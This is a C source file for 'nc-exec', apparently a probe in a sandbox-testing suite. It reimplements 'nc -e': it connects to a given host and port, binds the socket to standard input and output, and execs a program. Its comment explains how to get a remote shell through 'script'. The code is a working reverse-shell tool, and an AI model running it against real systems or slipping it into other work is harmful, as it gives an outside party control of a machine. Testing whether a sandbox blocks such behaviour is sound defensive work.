/* nc-exec HOST PORT PROG [ARGS...]
 *
 * What `nc -e PROG` / `ncat -e PROG` do: connect to HOST:PORT over TCP, make the
 * connection stdin, stdout and stderr, exec PROG. Not a shell or an interpreter
 * itself, so the program it starts is judged for what it does with that stdio:
 * `nc-exec H P /usr/bin/script -q /dev/null` gives the operator a shell on a
 * terminal that `script` allocates, the shell's own stdio being that terminal.
 *
 * Prints `connect errno=NAME` (exit 100) or `exec errno=NAME` (exit 126/127). */
#include "probe.h"
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <sys/socket.h>

int main(int argc, char **argv)
{
	if (argc < 4) {
		probe_say("usage: nc-exec HOST PORT PROG [ARGS...]\n");
		return PROBE_EXIT_USAGE;
	}
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((unsigned short)atoi(argv[2]))};
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1 || connect(s, (struct sockaddr *)&sa, sizeof sa) < 0) {
		probe_say("connect errno=%s\n", probe_errno_name(errno));
		return 100;
	}
	int e = 0;
	for (int fd = 0; fd <= 2; fd++)
		if (dup2(s, fd) < 0)
			e = errno;
	if (e == 0) {
		close(s);
		execv(argv[3], argv + 3);
		e = errno;
	}
	probe_say("exec errno=%s\n", probe_errno_name(e));
	return e == ENOENT ? 127 : PROBE_EXIT_REFUSED;
}
